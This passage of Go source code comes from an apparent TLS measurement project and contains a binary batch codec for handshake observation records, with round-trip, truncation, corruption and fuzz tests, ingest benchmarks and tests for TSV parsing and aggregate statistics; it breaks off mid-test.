	batchSuiteUnoffer
	batchFallback
	batchSSLv2

	batchFlagMask = batchSSLv2<<1 - 1
)

// AppendBatch appends one complete framed batch of recs to dst and returns
// the extended slice. The payload must stay under maxBatchPayload (64 MiB)
// or readers will reject the frame — keep batches producer-sized
// (DefaultBatchSize records is ~100 KiB).
func AppendBatch(dst []byte, recs []*Record) []byte {
	dst = append(dst, batchMagic...)
	dst = append(dst, BatchVersion)
	lenAt := len(dst)
	dst = append(dst, 0, 0, 0, 0) // payload length backfilled below
	payloadAt := len(dst)
	dst = appendCount(dst, len(recs))
	for _, r := range recs {
		dst = appendRecordBinary(dst, r)
	}
	payload := dst[payloadAt:]
	binary.LittleEndian.PutUint32(dst[lenAt:], uint32(len(payload)))
	return binary.LittleEndian.AppendUint32(dst, crc32.ChecksumIEEE(payload))
}

// EncodeBatch returns one framed batch of recs.
func EncodeBatch(recs []*Record) []byte { return AppendBatch(nil, recs) }

func recordFlags(r *Record) byte {
	var b byte
	if r.Established {
		b |= batchEstablished
	}
	if r.OffersHeartbeat {
		b |= batchOffersHB
	}
	if r.HeartbeatAck {
		b |= batchHBAck
	}
	if r.SuiteUnoffer {
		b |= batchSuiteUnoffer
	}
	if r.UsedFallback {
		b |= batchFallback
	}
	if r.SSLv2Hello {
		b |= batchSSLv2
	}
	return b
}

func appendRecordBinary(dst []byte, r *Record) []byte {
	dst = append(dst, recordFlags(r))
	dst = appendDateEnc(dst, r.Date)
	dst = appendUvarint(dst, uint64(r.ClientVersion))
	dst = appendUvarint(dst, uint64(r.Version))
	dst = appendUvarint(dst, uint64(r.Suite))
	dst = appendUvarint(dst, uint64(r.Curve))
	dst = append(dst, r.AlertDesc)
	dst = appendCodeList(dst, r.ClientSuites)
	dst = appendCodeList(dst, r.ClientExtensions)
	dst = appendCodeList(dst, r.ClientCurves)
	dst = appendCodeList(dst, r.ClientPointFmts)
	dst = appendCodeList(dst, r.ClientSupportedVs)
	dst = appendString(dst, r.Fingerprint)
	dst = appendString(dst, r.TruthClient)
	return appendString(dst, r.ServerCohort)
}

func appendCodeList[T ~uint8 | ~uint16](dst []byte, vals []T) []byte {
	dst = appendCount(dst, len(vals))
	for _, v := range vals {
		dst = appendUvarint(dst, uint64(v))
	}
	return dst
}

// BatchWriter packs records into framed batches. It implements Sink: Observe
// buffers one encoded record, emitting a frame every batchSize records;
// Close flushes the partial frame. The encode buffers are reused across
// frames, so steady-state writing allocates nothing — the binary counterpart
// of LogWriter.
type BatchWriter struct {
	w      io.Writer
	every  int
	recs   []byte // packed records of the frame being built
	count  int    // records in recs
	frame  []byte // reused frame assembly buffer
	frames int64
	n      int64
}

// NewBatchWriter wraps w. batchSize <= 0 uses DefaultBatchSize.
func NewBatchWriter(w io.Writer, batchSize int) *BatchWriter {
	if batchSize <= 0 {
		batchSize = DefaultBatchSize
	}
	return &BatchWriter{w: w, every: batchSize}
}

// Observe implements Sink.
func (bw *BatchWriter) Observe(r *Record) error {
	bw.recs = appendRecordBinary(bw.recs, r)
	bw.count++
	bw.n++
	if bw.count >= bw.every {
		return bw.flushFrame()
	}
	return nil
}

// Close implements Sink by flushing any partial frame.
func (bw *BatchWriter) Close() error {
	if bw.count == 0 {
		return nil
	}
	return bw.flushFrame()
}

// Count reports how many records have been written.
func (bw *BatchWriter) Count() int64 { return bw.n }

// Frames reports how many frames have been emitted.
func (bw *BatchWriter) Frames() int64 { return bw.frames }

func (bw *BatchWriter) flushFrame() error {
	dst := append(bw.frame[:0], batchMagic...)
	dst = append(dst, BatchVersion)
	lenAt := len(dst)
	dst = append(dst, 0, 0, 0, 0)
	payloadAt := len(dst)
	dst = appendCount(dst, bw.count)
	dst = append(dst, bw.recs...)
	payload := dst[payloadAt:]
	binary.LittleEndian.PutUint32(dst[lenAt:], uint32(len(payload)))
	dst = binary.LittleEndian.AppendUint32(dst, crc32.ChecksumIEEE(payload))
	bw.frame = dst
	bw.recs = bw.recs[:0]
	bw.count = 0
	if _, err := bw.w.Write(dst); err != nil {
		return err
	}
	bw.frames++
	return nil
}

// --- decoding ---

// minRecordEncodedLen bounds how small one packed record can be: flags,
// three date varints, four code-point varints, the alert byte, five list
// counts and three string lengths — 17 bytes. Used to sanity-bound the
// record count against the payload size before decoding.
const minRecordEncodedLen = 17

// maxInternEntries caps the decoder's string intern table. Real streams
// carry a few hundred distinct fingerprint/profile/cohort strings; past the
// cap new strings just allocate instead of interning.
const maxInternEntries = 1 << 16

// internTable dedupes the record strings of a stream. Fingerprints, truth
// labels and cohorts repeat across virtually every record, so interning
// makes steady-state binary decode allocation-free where TSV pays at least
// one line allocation per record.
type internTable map[string]string

// str reads one length-prefixed string from d, returning a previously
// interned copy when the bytes were seen before. The map lookup keyed by
// string(b) does not allocate (the compiler elides the conversion).
func (in internTable) str(d *snapDecoder) string {
	n := d.length(1)
	if d.err != nil || n == 0 {
		return ""
	}
	b := d.b[d.off : d.off+n]
	d.off += n
	if s, ok := in[string(b)]; ok {
		return s
	}
	s := string(b)
	if len(in) < maxInternEntries {
		in[s] = s
	}
	return s
}

func decodeCodeList[T ~uint8 | ~uint16](d *snapDecoder, dst []T, max uint64) []T {
	n := d.length(1)
	dst = dst[:0]
	for i := 0; i < n && d.err == nil; i++ {
		v := d.uvarint()
		if v > max {
			d.fail("list element %d out of range", v)
			return dst
		}
		dst = append(dst, T(v))
	}
	return dst
}

// decodeRecordBinary decodes one packed record into r, reusing r's slice
// capacity and interning strings through in.
func decodeRecordBinary(d *snapDecoder, r *Record, in internTable) {
	r.Reset()
	flags := d.byte()
	if d.err == nil && flags&^byte(batchFlagMask) != 0 {
		d.fail("unknown record flag bits %#x", flags)
		return
	}
	r.Established = flags&batchEstablished != 0
	r.OffersHeartbeat = flags&batchOffersHB != 0
	r.HeartbeatAck = flags&batchHBAck != 0
	r.SuiteUnoffer = flags&batchSuiteUnoffer != 0
	r.UsedFallback = flags&batchFallback != 0
	r.SSLv2Hello = flags&batchSSLv2 != 0
	r.Date = d.date()
	r.ClientVersion = registry.Version(d.u16())
	r.Version = registry.Version(d.u16())
	r.Suite = d.u16()
	r.Curve = registry.CurveID(d.u16())
	r.AlertDesc = d.byte()
	r.ClientSuites = decodeCodeList(d, r.ClientSuites, math.MaxUint16)
	r.ClientExtensions = decodeCodeList(d, r.ClientExtensions, math.MaxUint16)
	r.ClientCurves = decodeCodeList(d, r.ClientCurves, math.MaxUint16)
	r.ClientPointFmts = decodeCodeList(d, r.ClientPointFmts, math.MaxUint8)
	r.ClientSupportedVs = decodeCodeList(d, r.ClientSupportedVs, math.MaxUint16)
	r.Fingerprint = in.str(d)
	r.TruthClient = in.str(d)
	r.ServerCohort = in.str(d)
}

// ReadBatches streams framed batches from r, delivering each record to sink.
// EOF at a frame boundary (including an empty stream) ends the stream
// cleanly; a truncated, corrupted or version-mismatched frame surfaces as
// *BatchError and stops the stream, like ReadLog's *LineError. Records are
// decoded into a reused buffer, so the Sink contract applies: the record is
// only valid for the duration of Observe. The sink is not closed. It
// returns how many frames and records were delivered.
func ReadBatches(r io.Reader, sink Sink) (frames, records uint64, err error) {
	var hdr [9]byte // batchHeaderLen
	var body []byte
	var rec Record
	intern := make(internTable)
	for frame := 0; ; frame++ {
		if _, err := io.ReadFull(r, hdr[:]); err != nil {
			if err == io.EOF {
				return frames, records, nil
			}
			return frames, records, &BatchError{Frame: frame, Err: fmt.Errorf("frame header: %w", err)}
		}
		if string(hdr[:4]) != batchMagic {
			return frames, records, &BatchError{Frame: frame, Err: fmt.Errorf("bad magic %q", hdr[:4])}
		}
		if hdr[4] < batchMinVersion || hdr[4] > BatchVersion {
			return frames, records, &BatchError{Frame: frame,
				Err: fmt.Errorf("version %d, this build reads %d..%d", hdr[4], batchMinVersion, BatchVersion)}
		}
		n := binary.LittleEndian.Uint32(hdr[5:])
		if n > maxBatchPayload {
			return frames, records, &BatchError{Frame: frame, Err: fmt.Errorf("implausible payload length %d", n)}
		}
		// LimitReader + ReadAll grows with the bytes actually present, so a
		// corrupt length over a short stream fails without a huge up-front
		// allocation. body is reused across frames.
		body, err = readFullReuse(r, body, int(n)+4)
		if err != nil {
			return frames, records, &BatchError{Frame: frame, Err: err}
		}
		payload, trailer := body[:n], body[n:]
		if got, want := crc32.ChecksumIEEE(payload), binary.LittleEndian.Uint32(trailer); got != want {
			return frames, records, &BatchError{Frame: frame,
				Err: fmt.Errorf("checksum mismatch (%08x, want %08x)", got, want)}
		}
		d := &snapDecoder{b: payload, what: "batch"}
		count := d.length(minRecordEncodedLen)
		for i := 0; i < count && d.err == nil; i++ {
			decodeRecordBinary(d, &rec, intern)
			if d.err != nil {
				break
			}
			if err := sink.Observe(&rec); err != nil {
				return frames, records, err
			}
			records++
		}
		if d.err == nil && d.remaining() != 0 {
			d.fail("%d trailing bytes", d.remaining())
		}
		if d.err != nil {
			return frames, records, &BatchError{Frame: frame, Err: d.err}
		}
		frames++
	}
}

// readFullReuse reads exactly want bytes into buf[:0] (growing in bounded
// chunks, so a corrupt length never allocates more than the stream holds)
// and returns the filled buffer.
func readFullReuse(r io.Reader, buf []byte, want int) ([]byte, error) {
	buf = buf[:0]
	const chunk = 1 << 20
	for len(buf) < want {
		step := want - len(buf)
		if step > chunk {
			step = chunk
		}
		at := len(buf)
		if cap(buf) < at+step {
			grown := make([]byte, at, at+step)
			copy(grown, buf)
			buf = grown
		}
		buf = buf[:at+step]
		if _, err := io.ReadFull(r, buf[at:]); err != nil {
			return buf, fmt.Errorf("truncated frame: %d of %d payload+trailer bytes: %w", at, want, err)
		}
	}
	return buf, nil
}

// SniffReader wraps r in a buffered reader whose first bytes have been
// peeked, reporting whether the stream starts with a batch frame. The
// returned reader replays the stream from the beginning. Short or empty
// streams are reported as not-binary and left for the TSV reader to
// diagnose.
func SniffReader(r io.Reader) (*bufio.Reader, bool) {
	br := bufio.NewReaderSize(r, 1<<16)
	prefix, _ := br.Peek(len(batchMagic))
	return br, IsBatchStream(prefix)
}
