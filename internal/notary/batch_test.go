package notary

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"math/rand"
	"reflect"
	"runtime"
	"testing"

	"tlsage/internal/registry"
)

// randomBatchRecord widens randomRecord to exercise every field the batch
// codec carries: curves, point formats, alerts, fallback, truth labels and
// cohorts all get populated some of the time.
func randomBatchRecord(rnd *rand.Rand, all []registry.Suite) *Record {
	r := randomRecord(rnd, all)
	if rnd.Intn(3) == 0 {
		r.ClientCurves = []registry.CurveID{registry.CurveSecp256r1, registry.CurveID(rnd.Intn(30))}
		r.ClientPointFmts = []registry.ECPointFormat{0}
	}
	if !r.Established && rnd.Intn(2) == 0 {
		r.AlertDesc = uint8(rnd.Intn(120))
	}
	if rnd.Intn(5) == 0 {
		r.UsedFallback = true
	}
	if rnd.Intn(3) == 0 {
		r.TruthClient = fmt.Sprintf("profile-%d", rnd.Intn(6))
	}
	if rnd.Intn(3) == 0 {
		r.ServerCohort = fmt.Sprintf("cohort-%d", rnd.Intn(3))
	}
	return r
}

func buildBatchRecords(seed int64, n int) []*Record {
	rnd := rand.New(rand.NewSource(seed))
	all := registry.AllSuites()
	recs := make([]*Record, n)
	for i := range recs {
		recs[i] = randomBatchRecord(rnd, all)
	}
	return recs
}

// collectSink clones every record it sees (ReadBatches reuses one buffer).
type collectSink struct{ recs []*Record }

func (c *collectSink) Observe(r *Record) error { c.recs = append(c.recs, r.Clone()); return nil }
func (c *collectSink) Close() error            { return nil }

func nullSink() Sink { return SinkFunc(func(*Record) error { return nil }) }

// TestBatchRoundTrip is the codec's core property: reading back an encoded
// batch yields records field-for-field equal to the originals (compared
// through Clone, which normalizes empty-vs-nil slices), and an Aggregate
// built from the decoded stream deep-equals one built from the originals.
func TestBatchRoundTrip(t *testing.T) {
	for _, n := range []int{0, 1, 7, 500, 3000} {
		recs := buildBatchRecords(int64(n)+1, n)
		enc := EncodeBatch(recs)

		var got collectSink
		frames, records, err := ReadBatches(bytes.NewReader(enc), &got)
		if err != nil {
			t.Fatalf("n=%d: ReadBatches: %v", n, err)
		}
		if frames != 1 || records != uint64(n) {
			t.Fatalf("n=%d: got %d frames / %d records", n, frames, records)
		}
		if len(got.recs) != n {
			t.Fatalf("n=%d: sink saw %d records", n, len(got.recs))
		}
		for i, r := range recs {
			if want, have := r.Clone(), got.recs[i]; !reflect.DeepEqual(want, have) {
				t.Fatalf("n=%d: record %d mismatch:\n want %+v\n have %+v", n, i, want, have)
			}
		}

		want, have := NewAggregate(), NewAggregate()
		for _, r := range recs {
			want.Add(r)
		}
		for _, r := range got.recs {
			have.Add(r)
		}
		if !reflect.DeepEqual(want, have) {
			t.Fatalf("n=%d: aggregates diverge after round trip", n)
		}
	}
}

// TestBatchWriterFraming drives records through the Sink-facing producer and
// checks frame accounting plus a multi-frame round trip (batch size not
// dividing the record count, so the Close-flushed partial frame is covered).
func TestBatchWriterFraming(t *testing.T) {
	recs := buildBatchRecords(99, 100)
	var buf bytes.Buffer
	bw := NewBatchWriter(&buf, 7)
	for _, r := range recs {
		if err := bw.Observe(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := bw.Close(); err != nil {
		t.Fatal(err)
	}
	if bw.Count() != 100 || bw.Frames() != 15 { // ceil(100/7)
		t.Fatalf("writer reports %d records in %d frames", bw.Count(), bw.Frames())
	}

	var got collectSink
	frames, records, err := ReadBatches(&buf, &got)
	if err != nil {
		t.Fatal(err)
	}
	if frames != 15 || records != 100 {
		t.Fatalf("reader saw %d frames / %d records", frames, records)
	}
	for i, r := range recs {
		if !reflect.DeepEqual(r.Clone(), got.recs[i]) {
			t.Fatalf("record %d mismatch across writer framing", i)
		}
	}
}

// TestBatchTruncation cuts a two-frame stream at every byte offset. The
// empty prefix and the exact frame boundary are clean stream ends (that is
// the streaming contract); every other cut must error.
func TestBatchTruncation(t *testing.T) {
	recs := buildBatchRecords(3, 40)
	first := EncodeBatch(recs[:25])
	enc := AppendBatch(append([]byte(nil), first...), recs[25:])
	for n := 1; n < len(enc); n++ {
		frames, _, err := ReadBatches(bytes.NewReader(enc[:n]), nullSink())
		if n == len(first) {
			if err != nil || frames != 1 {
				t.Fatalf("cut at frame boundary: frames=%d err=%v", frames, err)
			}
			continue
		}
		if err == nil {
			t.Fatalf("truncation to %d of %d bytes read without error", n, len(enc))
		}
	}
	if _, _, err := ReadBatches(bytes.NewReader(nil), nullSink()); err != nil {
		t.Fatalf("empty stream: %v", err)
	}
	if frames, records, err := ReadBatches(bytes.NewReader(enc), nullSink()); err != nil || frames != 2 || records != 40 {
		t.Fatalf("full stream: frames=%d records=%d err=%v", frames, records, err)
	}
}

// TestBatchCorruption flips one byte at every offset of a valid frame. The
// magic, version and length checks catch the header; CRC32 catches the
// payload and trailer.
func TestBatchCorruption(t *testing.T) {
	enc := EncodeBatch(buildBatchRecords(5, 30))
	mut := make([]byte, len(enc))
	for off := range enc {
		copy(mut, enc)
		mut[off] ^= 0x5a
		if _, _, err := ReadBatches(bytes.NewReader(mut), nullSink()); err == nil {
			t.Fatalf("flipped byte at offset %d of %d read without error", off, len(enc))
		}
	}
}

// reframe wraps payload in a valid header and CRC trailer, so tests can
// exercise payload-level rejections that checksum verification would
// otherwise mask.
func reframe(payload []byte) []byte {
	dst := append([]byte(batchMagic), BatchVersion)
	dst = binary.LittleEndian.AppendUint32(dst, uint32(len(payload)))
	dst = append(dst, payload...)
	return binary.LittleEndian.AppendUint32(dst, crc32.ChecksumIEEE(payload))
}

// TestBatchRejectsMalformedPayloads covers short frames and structurally
// invalid payloads that arrive with a *valid* checksum: over-claimed record
// counts, unknown flag bits, trailing payload bytes, bad months.
func TestBatchRejectsMalformedPayloads(t *testing.T) {
	one := buildBatchRecords(11, 1)
	rec := appendRecordBinary(nil, one[0])

	cases := []struct {
		name    string
		payload []byte
	}{
		{"count exceeds payload", appendCount(nil, 50)},
		{"count over records present", append(appendCount(nil, 2), rec...)},
		{"trailing payload bytes", append(append(appendCount(nil, 1), rec...), 0xff)},
		{"unknown flag bits", func() []byte {
			p := append(appendCount(nil, 1), rec...)
			p[1] |= 0x80 // first record's flags byte
			return p
		}()},
		{"empty payload", nil},
	}
	for _, tc := range cases {
		if _, _, err := ReadBatches(bytes.NewReader(reframe(tc.payload)), nullSink()); err == nil {
			t.Errorf("%s: read without error", tc.name)
		}
	}
}

// TestBatchRejectsHeader covers version and magic rejection plus trailing
// garbage after a clean frame.
func TestBatchRejectsHeader(t *testing.T) {
	enc := EncodeBatch(buildBatchRecords(21, 5))

	wrongVersion := append([]byte(nil), enc...)
	wrongVersion[4] = BatchVersion + 1
	if _, _, err := ReadBatches(bytes.NewReader(wrongVersion), nullSink()); err == nil {
		t.Error("future version read without error")
	}

	if _, _, err := ReadBatches(bytes.NewReader([]byte("TLSN\x01garbagegarbage")), nullSink()); err == nil {
		t.Error("snapshot magic read as batch without error")
	}

	garbage := append(append([]byte(nil), enc...), "not a frame"...)
	if frames, _, err := ReadBatches(bytes.NewReader(garbage), nullSink()); err == nil {
		t.Errorf("trailing garbage read without error (%d frames)", frames)
	}

	huge := append([]byte(batchMagic), BatchVersion)
	huge = binary.LittleEndian.AppendUint32(huge, maxBatchPayload+1)
	if _, _, err := ReadBatches(bytes.NewReader(huge), nullSink()); err == nil {
		t.Error("implausible payload length read without error")
	}
}

// TestBatchErrorsAreBatchErrors pins the error taxonomy the service depends
// on: malformed frames surface as *BatchError (mapped to 4xx), sink errors
// pass through untouched (mapped to 5xx).
func TestBatchErrorsAreBatchErrors(t *testing.T) {
	enc := EncodeBatch(buildBatchRecords(31, 10))
	mut := append([]byte(nil), enc...)
	mut[len(mut)-1] ^= 1
	var be *BatchError
	_, _, err := ReadBatches(bytes.NewReader(mut), nullSink())
	if !errors.As(err, &be) || be.Frame != 0 {
		t.Fatalf("corrupt frame error = %v, want *BatchError frame 0", err)
	}

	sinkErr := fmt.Errorf("sink exploded")
	_, _, err = ReadBatches(bytes.NewReader(enc), SinkFunc(func(*Record) error { return sinkErr }))
	if err != sinkErr {
		t.Fatalf("sink error = %v, want passthrough", err)
	}
}

// TestIsBatchStream pins the sniffing contract ServeTCP relies on.
func TestIsBatchStream(t *testing.T) {
	if !IsBatchStream([]byte("TLSB\x01anything")) {
		t.Error("batch prefix not recognized")
	}
	for _, s := range []string{"", "T", "TLS", "TLSN", "#separator \\t", "2016-01-02\tT"} {
		if IsBatchStream([]byte(s)) {
			t.Errorf("%q misrecognized as batch stream", s)
		}
	}
}

// FuzzReadBatches asserts the decoder is panic-free on arbitrary bytes and
// that whatever it accepts re-encodes and re-decodes to the same records
// (decode∘encode retraction).
func FuzzReadBatches(f *testing.F) {
	f.Add([]byte{})
	f.Add([]byte(batchMagic))
	f.Add(EncodeBatch(nil))
	f.Add(EncodeBatch(buildBatchRecords(1, 3)))
	f.Add(AppendBatch(EncodeBatch(buildBatchRecords(2, 20)), buildBatchRecords(3, 4)))
	f.Fuzz(func(t *testing.T, data []byte) {
		var got collectSink
		if _, _, err := ReadBatches(bytes.NewReader(data), &got); err != nil {
			return
		}
		re := EncodeBatch(got.recs)
		var again collectSink
		if _, _, err := ReadBatches(bytes.NewReader(re), &again); err != nil {
			t.Fatalf("re-encoded accepted stream failed to decode: %v", err)
		}
		if len(again.recs) != len(got.recs) {
			t.Fatalf("re-decode yielded %d records, want %d", len(again.recs), len(got.recs))
		}
		for i := range got.recs {
			if !reflect.DeepEqual(got.recs[i], again.recs[i]) {
				t.Fatalf("record %d changed across re-encode", i)
			}
		}
	})
}

// --- ingest framing benchmarks ---
//
// BenchmarkIngestTSV vs BenchmarkIngestBinary compare the two wire framings
// end to end (serialized bytes → Sink), reporting records/s and
// allocs/record so the CI benchstat diff tracks the ratio. The sink is a
// trivial counter: the point is the framing cost, not aggregation.

func benchSink(n *int) Sink {
	return SinkFunc(func(*Record) error { *n++; return nil })
}

const benchIngestRecords = 5000

// benchIngestRecordSet models real traffic: a bounded population of distinct
// client configurations (so fingerprints, truth labels and cohorts repeat,
// as the paper's fingerprint analysis depends on) emitting many records.
func benchIngestRecordSet() []*Record {
	base := buildBatchRecords(77, 200)
	rnd := rand.New(rand.NewSource(7))
	recs := make([]*Record, benchIngestRecords)
	for i := range recs {
		r := base[rnd.Intn(len(base))].Clone()
		r.Date.Day = 1 + rnd.Intn(28)
		recs[i] = r
	}
	return recs
}

func BenchmarkIngestTSV(b *testing.B) {
	recs := benchIngestRecordSet()
	var buf bytes.Buffer
	lw := NewLogWriter(&buf)
	for _, r := range recs {
		if err := lw.Write(r); err != nil {
			b.Fatal(err)
		}
	}
	if err := lw.Close(); err != nil {
		b.Fatal(err)
	}
	benchIngest(b, buf.Bytes(), func(r *bytes.Reader, sink Sink) error {
		return ReadLog(r, sink)
	})
}

func BenchmarkIngestBinary(b *testing.B) {
	recs := benchIngestRecordSet()
	var buf bytes.Buffer
	bw := NewBatchWriter(&buf, DefaultBatchSize)
	for _, r := range recs {
		if err := bw.Observe(r); err != nil {
			b.Fatal(err)
		}
	}
	if err := bw.Close(); err != nil {
		b.Fatal(err)
	}
	benchIngest(b, buf.Bytes(), func(r *bytes.Reader, sink Sink) error {
		_, _, err := ReadBatches(r, sink)
		return err
	})
}

func benchIngest(b *testing.B, data []byte, read func(*bytes.Reader, Sink) error) {
	seen := 0
	sink := benchSink(&seen)
	rd := bytes.NewReader(data)
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	var ms0, ms1 runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&ms0)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rd.Reset(data)
		if err := read(rd, sink); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	runtime.ReadMemStats(&ms1)
	if seen != b.N*benchIngestRecords {
		b.Fatalf("sink saw %d records, want %d", seen, b.N*benchIngestRecords)
	}
	total := float64(b.N * benchIngestRecords)
	b.ReportMetric(total/b.Elapsed().Seconds(), "records/s")
	b.ReportMetric(float64(ms1.Mallocs-ms0.Mallocs)/total, "allocs/record")
}
