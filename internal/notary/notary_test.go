package notary

import (
	"bytes"
	"math/rand"
	"reflect"
	"testing"
	"time"

	"tlsage/internal/registry"
	"tlsage/internal/timeline"
	"tlsage/internal/wire"
)

func sampleRecord() *Record {
	return &Record{
		Date:              timeline.D(2015, time.June, 3),
		ClientVersion:     registry.VersionTLS12,
		ClientSuites:      []uint16{0xC02F, 0xC013, 0x0005, 0x000A},
		ClientExtensions:  []registry.ExtensionID{registry.ExtServerName, registry.ExtSupportedGroups},
		ClientCurves:      []registry.CurveID{registry.CurveSecp256r1},
		ClientPointFmts:   []registry.ECPointFormat{registry.PointFormatUncompressed},
		ClientSupportedVs: []registry.Version{registry.VersionTLS13Google, registry.VersionTLS12},
		OffersHeartbeat:   true,
		Established:       true,
		Version:           registry.VersionTLS12,
		Suite:             0xC02F,
		Curve:             registry.CurveSecp256r1,
		HeartbeatAck:      true,
		Fingerprint:       "fp-test",
		TruthClient:       "Chrome",
		ServerCohort:      "modern-ecdhe",
	}
}

func TestTSVRoundTrip(t *testing.T) {
	r := sampleRecord()
	line := string(r.AppendTSV(nil))
	got, err := ParseTSV(line)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(*r, got) {
		t.Fatalf("round trip mismatch:\n%+v\n%+v", *r, got)
	}
}

func TestTSVRoundTripEmptyFields(t *testing.T) {
	r := &Record{
		Date:          timeline.D(2012, time.February, 1),
		ClientVersion: registry.VersionTLS10,
		ClientSuites:  []uint16{0x002F},
		AlertDesc:     40,
	}
	got, err := ParseTSV(string(r.AppendTSV(nil)))
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(*r, got) {
		t.Fatalf("round trip mismatch:\n%+v\n%+v", *r, got)
	}
}

func TestParseTSVErrors(t *testing.T) {
	cases := []string{
		"",
		"too\tfew\tfields",
		"notadate\tT\t0303\tc02f\t0017\tT\tF\t0\tF\tF\t0303\t-\t-\t-\t-\t-\tT\t-\t-\t-",
		"2015-06-03\tT\tZZZZ\tc02f\t0017\tT\tF\t0\tF\tF\t0303\t-\t-\t-\t-\t-\tT\t-\t-\t-",
		"2015-06-03\tT\t0303\tc02f\t0017\tT\tF\t0\tF\tF\t0303\tXY\t-\t-\t-\t-\tT\t-\t-\t-",
	}
	for i, c := range cases {
		if _, err := ParseTSV(c); err == nil {
			t.Errorf("case %d: bad line parsed", i)
		}
	}
}

func TestObserveWireTLS(t *testing.T) {
	ch := &wire.ClientHello{
		Version:      registry.VersionTLS12,
		CipherSuites: []uint16{0xC02F, 0x0005},
		Extensions: []wire.Extension{
			wire.NewSupportedGroupsExtension([]registry.CurveID{registry.CurveX25519}),
			wire.NewHeartbeatExtension(1),
			wire.NewSupportedVersionsExtension([]registry.Version{registry.VersionTLS13Draft18}),
		},
	}
	raw, err := ch.AppendRecord(nil)
	if err != nil {
		t.Fatal(err)
	}
	var r Record
	if err := r.ObserveWire(raw); err != nil {
		t.Fatal(err)
	}
	if r.ClientVersion != registry.VersionTLS12 || len(r.ClientSuites) != 2 {
		t.Errorf("observed %+v", r)
	}
	if !r.OffersHeartbeat || !r.SupportsTLS13() {
		t.Error("extension observation broken")
	}
	if r.AdvertisedTLS13Variant() != registry.VersionTLS13Draft18 {
		t.Errorf("variant = %v", r.AdvertisedTLS13Variant())
	}
	if len(r.ClientCurves) != 1 || r.ClientCurves[0] != registry.CurveX25519 {
		t.Error("curves not observed")
	}
}

func TestObserveWireSSLv2(t *testing.T) {
	v2 := &wire.SSLv2ClientHello{
		Version:     registry.VersionSSL2,
		CipherSpecs: []uint32{0x010080, 0x000005},
		Challenge:   make([]byte, 16),
	}
	raw, _ := v2.MarshalBinary()
	var r Record
	if err := r.ObserveWire(raw); err != nil {
		t.Fatal(err)
	}
	if !r.SSLv2Hello || len(r.ClientSuites) != 1 || r.ClientSuites[0] != 0x0005 {
		t.Errorf("sslv2 observation: %+v", r)
	}
}

func TestObserveWireRejectsGarbage(t *testing.T) {
	var r Record
	if err := r.ObserveWire([]byte{0x16, 0x03}); err == nil {
		t.Error("truncated record observed")
	}
	// Alert record instead of handshake.
	raw, _ := wire.AppendRecord(nil, wire.ContentAlert, registry.VersionTLS10, []byte{2, 40})
	if err := r.ObserveWire(raw); err == nil {
		t.Error("alert record observed as hello")
	}
}

func TestAggregateCounters(t *testing.T) {
	agg := NewAggregate()
	r1 := sampleRecord()
	agg.Add(r1)
	r2 := sampleRecord()
	r2.Established = false
	r2.AlertDesc = 40
	r2.Fingerprint = "fp-other"
	agg.Add(r2)

	months := agg.Months()
	if len(months) != 1 {
		t.Fatalf("months = %v", months)
	}
	ms := agg.Stats(months[0])
	if ms.Total != 2 || ms.Established != 1 {
		t.Fatalf("total=%d established=%d", ms.Total, ms.Established)
	}
	if ms.ByVersion[registry.VersionTLS12] != 1 {
		t.Error("version counter")
	}
	if ms.ByClass["AEAD"] != 1 {
		t.Error("class counter")
	}
	if ms.ByKex[registry.KexECDHE] != 1 {
		t.Error("kex counter")
	}
	if ms.AdvRC4 != 2 || ms.Adv3DES != 2 || ms.AdvAEAD != 2 {
		t.Error("advertisement counters")
	}
	if ms.AdvTLS13 != 2 || ms.TLS13Variant[registry.VersionTLS13Google] != 2 {
		t.Error("TLS 1.3 advertisement counters")
	}
	if ms.OffersHeartbeatN != 2 || ms.HeartbeatAckN != 1 {
		t.Error("heartbeat counters")
	}
	if ms.ByCurve[registry.CurveSecp256r1] != 1 {
		t.Error("curve counter")
	}
	if len(ms.FPs) != 2 {
		t.Error("fingerprint tracking")
	}
	if ms.Pct(1) != 50 || ms.PctEstablished(1) != 100 {
		t.Error("percentage helpers")
	}
}

func TestAggregateGREASEStripped(t *testing.T) {
	agg := NewAggregate()
	r := &Record{
		Date:          timeline.D(2017, time.March, 1),
		ClientVersion: registry.VersionTLS12,
		ClientSuites:  []uint16{0x0a0a, 0xC02F},
		Established:   true, Version: registry.VersionTLS12, Suite: 0xC02F,
	}
	agg.Add(r)
	ms := agg.Stats(timeline.M(2017, time.March))
	if ms.AdvRC4 != 0 || ms.AdvAEAD != 1 {
		t.Error("GREASE not stripped in advertisement counting")
	}
}

func TestFigure5Positions(t *testing.T) {
	agg := NewAggregate()
	// AEAD at position 0, CBC at 1, RC4 at 2, 3DES at 3 of a 4-suite list.
	r := &Record{
		Date:          timeline.D(2015, time.January, 10),
		ClientVersion: registry.VersionTLS12,
		ClientSuites:  []uint16{0xC02F, 0xC013, 0x0005, 0x000A},
	}
	agg.Add(r)
	ms := agg.Stats(timeline.M(2015, time.January))
	if got := ms.PosSum["AEAD"] / float64(ms.PosCount["AEAD"]); got != 0 {
		t.Errorf("AEAD position = %v", got)
	}
	if got := ms.PosSum["CBC"] / float64(ms.PosCount["CBC"]); got < 0.32 || got > 0.35 {
		t.Errorf("CBC position = %v, want 1/3", got)
	}
	if got := ms.PosSum["3DES"] / float64(ms.PosCount["3DES"]); got != 1 {
		t.Errorf("3DES position = %v, want 1 (bottom)", got)
	}
	// Note: the CBC class includes the 3DES suite, but the *first* CBC suite
	// is the AES one at index 1.
}

func TestFPDurations(t *testing.T) {
	agg := NewAggregate()
	mk := func(day int, fp string) *Record {
		return &Record{
			Date:          timeline.D(2015, time.June, day),
			ClientVersion: registry.VersionTLS12,
			ClientSuites:  []uint16{0x002F},
			Fingerprint:   fp,
		}
	}
	agg.Add(mk(1, "long"))
	agg.Add(mk(20, "long"))
	agg.Add(mk(5, "short"))
	durs := agg.FPDurations()
	if len(durs) != 2 {
		t.Fatalf("durations = %v", durs)
	}
	byFP := map[string]FPDuration{}
	for _, d := range durs {
		byFP[d.Fingerprint] = d
	}
	if byFP["long"].Days != 20 || byFP["long"].Connections != 2 {
